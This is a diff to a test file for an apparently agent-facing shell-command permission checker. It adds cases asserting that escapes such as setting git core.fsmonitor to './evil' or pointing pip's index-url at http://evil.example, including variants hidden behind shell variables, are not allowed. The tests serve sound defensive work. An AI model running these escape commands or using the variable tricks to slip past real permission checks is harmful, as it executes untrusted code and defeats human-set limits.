@@ -53,6 +53,8 @@ test.each([
   'rsync -ave ./evil a host:',
   'git -p -c core.fsmonitor=./evil status',
   'git -p config core.fsmonitor ./evil',
+  'x=config; git $x core.fsmonitor ./evil',
+  'x=set; y=config; pip $y $x global.index-url http://evil.example',
   "gawk -d.git/config 'BEGIN { x = 1 }'",
   'pip -q config set global.index-url http://evil.example',
   'perl -e 1 | perl -w',
@@ -60,4 +62,11 @@ test.each([
 ])('an escape by a program that is allowed whatever follows it: %s', (text) => {
   const programs = ['declare', 'echo', 'gawk', 'git', 'perl', 'pip', 'rsync', 'ruby', 'unset']
   expect(judgedWith({ allowed_commands: programs }, text)).not.toBe('allow')
+})
+
+test('the first edition of the checks stays as it was: braces in front of a program are unclear to it', () => {
+  const asked = request('bash', { command: 'seq 1 3 | xargs -I{} echo {}' })
+  const first = { ...development, edition: 1 as const }
+  expect(verdictOf(evaluatePassport(first, asked))).toBe('oap.command_injection_detected')
+  expect(verdictOf(evaluatePassport(development, asked))).toBe('allow')
 })
